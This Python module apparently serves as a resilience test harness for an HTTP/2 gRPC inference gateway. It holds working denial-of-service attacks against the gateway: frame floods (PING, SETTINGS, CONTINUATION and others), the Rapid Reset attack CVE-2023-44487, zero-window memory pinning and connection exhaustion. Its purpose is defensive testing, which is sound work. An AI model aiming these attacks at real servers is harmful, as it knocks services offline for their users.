"""One hostile peer: each attack of issue 14 (and its kin) as a function that runs for a while.

The attacker speaks HTTP/2 through the ``h2`` package, an implementation independent of the
gateway's own, and every byte the gateway sends back is decoded by it (``h2`` raises on anything
that breaks RFC 9113, and the attack reports it as ``protocol_violations``). What ``h2`` refuses to
send (empty CONTINUATION floods, PRIORITY frames on idle streams, DATA on streams it has seen
closed) is serialized by ``hyperframe``, the frame layer ``h2`` itself uses, and never shown to
``h2``'s state machine. ``h2`` is a dev dependency, imported inside the functions that use it.

Each attack connects from ``source`` (another loopback address than the legitimate clients use,
so per-address limits can tell them apart), reconnects whenever the gateway hangs up, stops at its
deadline, and returns counts: connections opened and refused, GOAWAY codes received, calls
answered by status, frames sent. It runs in a process of its own (:func:`run_in_process`), so its
CPU is not the caller's.
"""

from __future__ import annotations

import contextlib
import multiprocessing
import os
import socket
import ssl
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

MODEL = "mnist-cnn-eps3"
INFER = "/inference.GRPCInferenceService/ModelInfer"
IMAGE_BYTES = 784 * 4


@dataclass(frozen=True)
class Target:
    """Where and how the attacker connects."""

    host: str
    port: int
    source: str = "127.0.0.2"
    tls_ca: str | None = None  # PEM of the gateway's CA: connect with TLS
    api_key: str | None = None  # None: an unauthenticated peer
    message_bytes: int = 8 << 20  # the gateway's max_message_bytes
    connections: int = 16  # how many at once, for the attacks that hold several


class Closed(Exception):
    """The gateway hung up (or refused the connection)."""


class Wire:
    """One attacking connection: an ``h2`` client on a socket (TLS if the target says so)."""

    def __init__(
        self, target: Target, stats: Counter, settings: dict | None = None, *, behind_h2: bool = False
    ) -> None:
        import h2.config
        import h2.connection

        self.stats = stats
        try:
            raw = socket.create_connection((target.host, target.port), timeout=5, source_address=(target.source, 0))
        except OSError as exc:
            stats["connections_refused"] += 1
            raise Closed(str(exc)) from None
        try:
            if target.tls_ca:
                context = ssl.create_default_context(cafile=target.tls_ca)
                context.set_alpn_protocols(["h2"])
                raw = context.wrap_socket(raw, server_hostname="localhost")
            self.socket = raw
            self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
            self.h2.initiate_connection()
            if settings:
                self.h2.update_settings(settings)
            self.socket.sendall(self.h2.data_to_send())
        except (OSError, ssl.SSLError) as exc:
            raw.close()
            stats["connections_refused"] += 1
            raise Closed(str(exc)) from None
        stats["connections_opened"] += 1
        self.target = target
        self.raw = behind_h2  # streams opened behind h2's back: decode with hyperframe only
        self.closed = False
        self.next_stream = 1
        self.answers: dict[int, str] = {}  # stream -> grpc-status, or "reset:<code>"
        self._status: dict[int, str] = {}  # grpc-status (or :status) of the last header block per stream

    def send(self, raw: bytes = b"") -> None:
        try:
            self.socket.sendall(self.h2.data_to_send() + raw)
        except (OSError, ssl.SSLError):
            self.close()
            raise Closed("send failed") from None

    def pump(self, wait: float = 0.0) -> None:
        """Read whatever has arrived (waiting up to ``wait`` for something), decode it with h2."""
        import h2.events
        import h2.exceptions

        self.socket.settimeout(wait if wait > 0 else 0.0001)
        while True:
            try:
                data = self.socket.recv(1 << 20)
            except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
                return
            except (OSError, ssl.SSLError):
                self.close()
                raise Closed("reset") from None
            if not data:
                self.close()
                raise Closed("closed") from None
            if self.raw:
                self._raw_frames(data)
                continue
            try:
                events = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError as exc:
                self.stats["protocol_violations"] += 1
                self.stats[f"violation: {exc}"[:120]] += 1
                self.close()
                raise Closed("h2 refused what the gateway sent") from None
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.stats[f"goaway {_code_name(event.error_code)}"] += 1
                    self.close()  # h2 refuses any frame after GOAWAY, which RFC 9113 allows a server
                    raise Closed("GOAWAY")
                elif isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                    headers = dict(event.headers)
                    self._status[event.stream_id] = headers.get("grpc-status", headers.get(":status", "?"))
                elif isinstance(event, h2.events.StreamEnded):
                    status = self._status.pop(event.stream_id, "?")
                    self.answers[event.stream_id] = status
                    self.stats[f"grpc-status {status}"] += 1
                elif isinstance(event, h2.events.StreamReset):
                    self.answers.setdefault(event.stream_id, f"reset:{_code_name(event.error_code)}")
                    self.stats[f"rst {_code_name(event.error_code)}"] += 1
                elif isinstance(event, h2.events.DataReceived):
                    self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            pending = self.h2.data_to_send()
            if pending:
                with contextlib.suppress(OSError, ssl.SSLError):
                    self.socket.sendall(pending)
            self.socket.settimeout(0.0001)

    def _raw_frames(self, data: bytes) -> None:
        """Frames decoded by hyperframe (h2's frame layer), GOAWAY codes counted."""
        from hyperframe.frame import Frame, GoAwayFrame

        self._pending = getattr(self, "_pending", b"") + data
        while len(self._pending) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self._pending[:9]))
            if len(self._pending) < 9 + length:
                return
            frame.parse_body(memoryview(self._pending[9 : 9 + length]))
            self._pending = self._pending[9 + length :]
            if isinstance(frame, GoAwayFrame):
                import h2.errors

                self.stats[f"goaway {_code_name(h2.errors._error_code_from_int(frame.error_code))}"] += 1

    def open_call(self, *, end_stream: bool = False, path: str = INFER) -> int:
        stream = self.h2.get_next_available_stream_id()
        headers = [(":method", "POST"), (":scheme", "https" if self.target.tls_ca else "http"), (":path", path),
                   (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]  # fmt: skip
        if self.target.api_key:
            headers.append(("x-api-key", self.target.api_key))
        self.h2.send_headers(stream, headers, end_stream=end_stream)
        return stream

    def close(self) -> None:
        if not self.closed:
            self.closed = True
            with contextlib.suppress(OSError):
                self.socket.close()


def _code_name(code) -> str:
    return getattr(code, "name", str(code))


def infer_body(*, images: int, shape: list[int] | None = None) -> bytes:
    """A gRPC-framed ModelInfer request for ``images`` MNIST-sized zero inputs (or ``shape``)."""
    from gateway.api import grpc_predict_v2_pb2 as oip

    tensor = oip.ModelInferRequest.InferInputTensor(
        name="input", datatype="FP32", shape=shape if shape is not None else [images, 1, 28, 28]
    )
    raw = b"" if shape is not None else bytes(images * IMAGE_BYTES)
    message = oip.ModelInferRequest(model_name=MODEL, inputs=[tensor], raw_input_contents=[raw]).SerializeToString()
    return b"\x00" + len(message).to_bytes(4, "big") + message


def _send_body(wire: Wire, stream: int, body: bytes, deadline: float) -> bool:
    """Send ``body`` on ``stream`` as the windows allow; False once the stream is answered or reset."""
    import h2.exceptions

    sent = 0
    while sent < len(body) and time.monotonic() < deadline:
        if stream in wire.answers:
            return False
        try:
            room = min(wire.h2.local_flow_control_window(stream), 16_384, len(body) - sent)
        except h2.exceptions.StreamClosedError:
            return False
        if room <= 0:
            wire.pump(0.01)
            continue
        try:
            wire.h2.send_data(stream, body[sent : sent + room], end_stream=sent + room == len(body))
        except h2.exceptions.StreamClosedError:
            return False
        sent += room
        wire.send()
        if sent % (1 << 20) < room:
            wire.pump()
    return sent == len(body)


# -- the attacks -----------------------------------------------------------------------------------


def _reconnecting(target: Target, deadline: float, stats: Counter, body: Callable[[Wire], None], **kwargs) -> None:
    """Connect, run ``body`` until the gateway hangs up, connect again; until the deadline."""
    while time.monotonic() < deadline:
        try:
            wire = Wire(target, stats, **kwargs)
        except Closed:
            continue
        try:
            body(wire)
        except Closed:
            pass
        finally:
            wire.close()


def _flood(frames: Callable[[Wire], bytes], stats: Counter, name: str, deadline: float):
    def body(wire: Wire) -> None:
        while time.monotonic() < deadline:
            chunk = frames(wire)
            wire.send(chunk)
            stats[f"{name} frames sent"] += 1000
            wire.pump()

    return body


def ping_flood(target: Target, deadline: float, stats: Counter) -> None:
    from hyperframe.frame import PingFrame

    ping = PingFrame(0, opaque_data=b"hegate!!").serialize() * 1000
    _reconnecting(target, deadline, stats, _flood(lambda wire: ping, stats, "PING", deadline))


def settings_flood(target: Target, deadline: float, stats: Counter) -> None:
    from hyperframe.frame import SettingsFrame

    settings = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize() * 1000
    _reconnecting(target, deadline, stats, _flood(lambda wire: settings, stats, "SETTINGS", deadline))


def window_update_flood(target: Target, deadline: float, stats: Counter) -> None:
    from hyperframe.frame import WindowUpdateFrame

    update = WindowUpdateFrame(0, window_increment=1).serialize() * 1000
    _reconnecting(target, deadline, stats, _flood(lambda wire: update, stats, "WINDOW_UPDATE", deadline))


def priority_flood(target: Target, deadline: float, stats: Counter) -> None:
    from hyperframe.frame import PriorityFrame

    priority = b"".join(PriorityFrame(2 * i + 1001, depends_on=0, stream_weight=16).serialize() for i in range(1000))
    _reconnecting(target, deadline, stats, _flood(lambda wire: priority, stats, "PRIORITY", deadline))


def empty_data_flood(target: Target, deadline: float, stats: Counter) -> None:
    from hyperframe.frame import DataFrame

    def frames(wire: Wire) -> bytes:
        if not hasattr(wire, "flood_stream"):
            wire.flood_stream = wire.open_call()
        return DataFrame(wire.flood_stream, data=b"").serialize() * 1000

    _reconnecting(target, deadline, stats, _flood(frames, stats, "empty DATA", deadline))


def continuation_flood(target: Target, deadline: float, stats: Counter) -> None:
    """A header block that never ends: HEADERS without END_HEADERS, then empty CONTINUATIONs."""
    from hyperframe.frame import ContinuationFrame, HeadersFrame

    def frames(wire: Wire) -> bytes:
        if not hasattr(wire, "flood_stream"):
            wire.flood_stream = 1001  # h2 never sees this stream
            start = HeadersFrame(1001, data=b"\x83\x86")  # :method POST, :scheme http; no END_HEADERS
            return start.serialize() + ContinuationFrame(1001, data=b"").serialize() * 999
        return ContinuationFrame(1001, data=b"").serialize() * 1000

    _reconnecting(target, deadline, stats, _flood(frames, stats, "CONTINUATION", deadline), behind_h2=True)


def rapid_reset(target: Target, deadline: float, stats: Counter) -> None:
    """Open calls and reset them at once (CVE-2023-44487)."""

    def body(wire: Wire) -> None:
        while time.monotonic() < deadline:
            for _ in range(100):
                stream = wire.open_call()
                wire.h2.reset_stream(stream)
            wire.send()
            stats["calls opened and reset"] += 100
            wire.pump()

    _reconnecting(target, deadline, stats, body)


def unauthenticated_bodies(target: Target, deadline: float, stats: Counter) -> None:
    """Calls with full-size bodies and no key (``target.api_key`` should be None)."""
    body = infer_body(images=(target.message_bytes - 1024) // IMAGE_BYTES)

    def calls(wire: Wire) -> None:
        while time.monotonic() < deadline:
            stream = wire.open_call()
            wire.send()
            stats["calls started"] += 1
            if _send_body(wire, stream, body, deadline):
                stats["bodies sent whole"] += 1
            else:
                stats["bodies cut short"] += 1
            wire.pump()

    _reconnecting(target, deadline, stats, calls)


def window_zero(target: Target, deadline: float, stats: Counter, calls_per_connection: int = 7) -> None:
    """INITIAL_WINDOW_SIZE 0, then valid full-size calls on ``target.connections`` connections,
    held open: no reply can ever be sent (issue 14: ~65 MB pinned per connection)."""
    import h2.settings

    body = infer_body(images=(target.message_bytes - 1024) // IMAGE_BYTES)
    wires: list[Wire] = []
    while time.monotonic() < deadline:
        wires = [w for w in wires if not w.closed]
        if len(wires) < target.connections:
            try:
                wire = Wire(target, stats, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
            except Closed:
                time.sleep(0.05)
                continue
            wires.append(wire)
            try:
                for _ in range(calls_per_connection):
                    stream = wire.open_call()
                    wire.send()
                    stats["calls started"] += 1
                    if _send_body(wire, stream, body, deadline):
                        stats["bodies sent whole"] += 1
                    wire.pump()
            except Closed:
                continue
        for wire in wires:
            with contextlib.suppress(Closed):
                wire.pump(0.01)
        time.sleep(0.05)
    for wire in wires:
        wire.close()


def connection_hog(target: Target, deadline: float, stats: Counter, count: int = 1030) -> None:
    """Many connections that only say hello, then PING now and then (it used to keep them alive)."""
    wires: list[Wire] = []
    for _ in range(count):
        if time.monotonic() >= deadline:
            break
        with contextlib.suppress(Closed):
            wires.append(Wire(target, stats))
    last_ping = time.monotonic()
    while time.monotonic() < deadline:
        time.sleep(0.2)
        ping = time.monotonic() - last_ping > 20
        for wire in wires:
            if wire.closed:
                continue
            with contextlib.suppress(Closed):
                if ping:
                    wire.h2.ping(os.urandom(8))
                    wire.send()
                wire.pump()
        if ping:
            last_ping = time.monotonic()
    stats["connections held at the end"] = sum(not w.closed for w in wires)
    for wire in wires:
        wire.close()


def huge_shape(target: Target, deadline: float, stats: Counter) -> None:
    """ModelInfer with shape [0, 2**63 - 1, 28, 28], 32 calls at a time (needs a key)."""
    body = infer_body(images=0, shape=[0, 2**63 - 1, 28, 28])

    def calls(wire: Wire) -> None:
        while time.monotonic() < deadline:
            while wire.h2.open_outbound_streams < 32:
                stream = wire.open_call()
                wire.h2.send_data(stream, body, end_stream=True)
                stats["calls sent"] += 1
            wire.send()
            wire.pump(0.01)

    _reconnecting(target, deadline, stats, calls)


ATTACKS: dict[str, Callable[[Target, float, Counter], None]] = {
    "window-zero": window_zero,
    "connection-hog": connection_hog,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "window-update-flood": window_update_flood,
    "priority-flood": priority_flood,
    "empty-data-flood": empty_data_flood,
    "continuation-flood": continuation_flood,
    "rapid-reset": rapid_reset,
    "unauthenticated-bodies": unauthenticated_bodies,
    "huge-shape": huge_shape,
}
NEEDS_KEY = frozenset({"window-zero", "huge-shape"})  # the attack needs calls the gateway accepts


def attack(name: str, target: Target, seconds: float) -> dict[str, int]:
    """Run one attack for ``seconds``; its counts."""
    stats: Counter = Counter()
    ATTACKS[name](target, time.monotonic() + seconds, stats)
    return dict(stats)


def _child(connection, name: str, target: Target, seconds: float) -> None:
    try:
        connection.send(attack(name, target, seconds))
    except Exception as exc:
        connection.send({"error": f"{type(exc).__name__}: {exc}"})


class AttackProcess:
    """``with AttackProcess(name, target, seconds) as a: ...; counts = a.result()``."""

    def __init__(self, name: str, target: Target, seconds: float) -> None:
        context = multiprocessing.get_context("spawn")
        self._ours, theirs = context.Pipe()
        self._process = context.Process(target=_child, args=(theirs, name, target, seconds), daemon=True)
        self._seconds = seconds

    def __enter__(self) -> AttackProcess:
        self._process.start()
        return self

    def result(self) -> dict[str, int]:
        if not self._ours.poll(self._seconds + 60):
            raise RuntimeError("the attack did not finish")
        counts = self._ours.recv()
        if "error" in counts:
            raise RuntimeError(f"the attack failed: {counts['error']}")
        return counts

    def __exit__(self, *exc: object) -> None:
        self._process.join(10)
        if self._process.is_alive():
            self._process.terminate()
            self._process.join(5)
